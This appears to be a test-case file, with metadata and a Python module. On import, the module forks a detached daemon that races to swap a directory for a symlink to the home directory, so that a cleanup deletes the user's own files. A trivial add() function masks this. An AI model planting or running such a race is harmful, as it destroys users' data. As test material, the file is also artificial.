#: title = "A daemon swaps a folder for a link while the folder is emptied"
#: why = "Between a look at a folder and its removal it can become a way to another's files."
#: kind = "steps"
#: answer = "either"
#: ends = ["any"]
#: linger = 1.0
import os

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(200000):
            try:
                os.makedirs("swap/a", exist_ok=True)
                open("swap/a/f", "w").close()
                os.rename("swap", "kept")
                os.symlink("@HOME@", "swap")
                os.unlink("swap")
                os.rename("kept", "swap")
            except OSError:
                pass
    os._exit(0)


def add(a, b):
    return a + b
